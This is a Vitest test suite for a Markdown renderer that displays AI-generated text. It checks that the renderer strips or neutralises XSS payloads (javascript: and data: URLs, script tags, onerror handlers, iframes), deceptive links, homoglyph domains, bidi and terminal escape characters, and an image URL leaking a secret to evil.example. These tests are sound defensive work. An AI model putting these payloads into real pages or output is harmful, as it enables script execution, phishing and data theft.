import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from '../../../renderer/features/runs/Markdown';

const render = (text: string) => renderToStaticMarkup(createElement(Markdown, { text }));

const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java&#10;script:alert(1)',
  '&#106;avascript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  'vbscript:x',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'file:///etc/passwd',
  'blob:https://x/y',
  'about:blank',
  'http://plain.example/',
  'ftp://x/',
  'smb://x/y',
  'ms-settings:',
  'app://stepgraph/index.html',
  'mailto:a@b.example',
  '//evil.example/',
  '/index.html',
  '../x',
  '#part',
  '\\\\server\\share',
  'x-apple.systempreferences:',
];

const HTML = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x"></object>',
  '<embed src="x">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{background:url(https://evil.example)}</style>',
  '<form action="https://evil.example"><button>x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://x.example" onclick="alert(1)">x</a>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<div style="position:fixed;inset:0">covered</div>',
  '</div></body><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
];

/** Elements that markdown may become, and attributes that they may have. */
const ALLOWED =
  /^<(?:\/?(?:div|p|span|em|strong|del|code|pre|ul|ol|li|h[1-6]|blockquote|hr|br|table|thead|tbody|tr|th|td|input|section|sup|a)\b(?: (?:class|title|href|target|rel|type|disabled|checked|start|style|id|data-[a-z-]+|aria-[a-z-]+)="[^"]*")*\s*\/?)>$/;

function tagsOf(html: string): readonly string[] {
  return html.match(/<[^>]*>/g) ?? [];
}

describe('text that a model wrote', () => {
  it.each(ADDRESSES)('has no link to %j', (address) => {
    const ways = [
      `[x](${address})`,
      `[x](<${address}>)`,
      `<${address}>`,
      `[x][y]\n\n[y]: ${address}`,
      `![x](${address})`,
      address,
      `[x](${address} "title")`,
    ];
    for (const way of ways) {
      const links = render(way).match(/ (?:href|src|srcset|action)="[^"]*"/g) ?? [];
      expect([way, links.filter((link) => !/ href="(https:\/\/|#user-content)/.test(link))]).toEqual([way, []]);
    }
  });

  it.each(HTML)('shows %j as text or not at all', (html) => {
    for (const way of [html, `before ${html} after`, `> ${html}`, `- ${html}`, `| a |\n|---|\n| ${html} |`, `\n\n${html}\n\n`]) {
      const tags = tagsOf(render(way));
      expect([way, tags.filter((tag) => !ALLOWED.test(tag))]).toEqual([way, []]);
      expect(tags.join()).not.toMatch(/ on\w+=|evil\.example"|position:/);
    }
  });

  it('has links to https only, which open outside and tell nothing of where they were', () => {
    const html = render('[the guide](https://docs.example/a?b=c) and https://docs.example/bare');
    expect(html.match(/<a [^>]*>/g)).toEqual([
      '<a href="https://docs.example/a?b=c" title="https://docs.example/a?b=c" target="_blank" rel="noreferrer noopener">',
      '<a href="https://docs.example/bare" title="https://docs.example/bare" target="_blank" rel="noreferrer noopener">',
    ]);
  });

  it.each(['[bank](https://bank.example@evil.example/)', 'https://bank.example@evil.example/', '<https://ada:word@evil.example/>'])(
    'has no link that names another place than it leads to: %s',
    (text) => {
      expect(render(text)).not.toContain('<a ');
    },
  );

  it.each([
    ['[https://good.example](https://evil.example/a)', 'https://good.example'],
    ['[https://good.example/path](https://evil.example/a)', 'https://good.example/path'],
    ['[**https://good.example**](https://evil.example/a)', 'https://good.example'],
    ['[https://go**od.example**](https://evil.example/a)', 'https://good.example'],
    ['[`good.example`](https://evil.example/a)', 'good.example'],
    ['[www.good.example/x](https://evil.example/a)', 'www.good.example/x'],
    ['[GOOD.example](https://evil.example/a)', 'GOOD.example'],
    ['[Sign in at good.example](https://evil.example/a)', 'Sign in at good.example'],
    ['[good.example, evil.example](https://evil.example/a)', 'good.example, evil.example'],
    ['[https://good.example:8443](https://good.example/a)', 'https://good.example:8443'],
    ['[http:// good.example](https://evil.example/a)', 'http:// good.example'],
    ['[good\u200b.example](https://evil.example/a)', 'good\u200b.example'],
    ['[good\uff0eexample](https://evil.example/a)', 'good\uff0eexample'],
    ['[good.example.](https://evil.example/a)', 'good.example.'],
    ['[ada@good.example](https://evil.example/a)', 'ada@good.example'],
    ['[g\u043eod.example](https://evil.example/a)', 'g\u043eod.example'],
    ['[![good.example](x)](https://evil.example/a)', '[picture: good.example]'],
  ])('shows a link whose text is another address as text, with where it leads: %s', (markdown, text) => {
    const html = render(markdown);
    expect(html).not.toContain('<a ');
    expect(html.replace(/<[^>]*>/g, '')).toContain(`${text} (${markdown.match(/\((https:[^)]*)\)$/)?.[1]})`);
  });

  it.each([
    '[https://docs.example/a](https://docs.example/b)',
    '[docs.example](https://docs.example/b)',
    '[DOCS.example](https://docs.example/b)',
    '[www.docs.example](https://docs.example/b)',
    '[docs.example](https://www.docs.example/b)',
    '[the guide](https://docs.example/b)',
    '[package.json](https://docs.example/b)',
    '[src/index.ts](https://docs.example/b)',
    '[e.g. this](https://docs.example/b)',
    '[version 1.2.3](https://docs.example/b)',
    '[Node.js](https://docs.example/b)',
    '[https://docs.example/b?from=other.example](https://docs.example/b?from=other.example)',
    'https://docs.example/b?from=https://other.example/c',
    '[docs.example/b?from=other.example](https://docs.example/b?from=other.example)',
    '[$127.00.000](https://docs.example/b)',
  ])('keeps a link that names no other place: %s', (markdown) => {
    expect(render(markdown)).toContain('<a href="https://');
  });

  it.each([
    '# \u202etxt',
    '**a\u202eb** `c\u001b[31md`',
    '```\n\u2066x\u0007\n```',
    '[x\u202ey](https://x.example "\u202ez")',
    '![\u202ex](y)',
    '&#x202e;x &#x9b;',
    '| a\u202e |\n|---|\n| \u001b]0;x\u0007 |',
  ])('neither turns its letters nor steers a terminal that it is copied to: %j', (text) => {
    expect(render(text)).not.toMatch(/[\u202a-\u202e\u2066-\u2069]|[^\P{Cc}\t\n]/u);
  });

  it('loads no picture from anywhere', () => {
    expect(render('![a cat](https://evil.example/cat.png?secret=1)')).not.toMatch(/<img|evil\.example/);
  });

  it('may nest as deep as it likes', () => {
    for (const text of ['> '.repeat(2_000), '['.repeat(5_000), '*'.repeat(10_000), `${'- '.repeat(500)}x`, '`'.repeat(10_001)]) {
      expect(typeof render(text)).toBe('string');
    }
  });
});
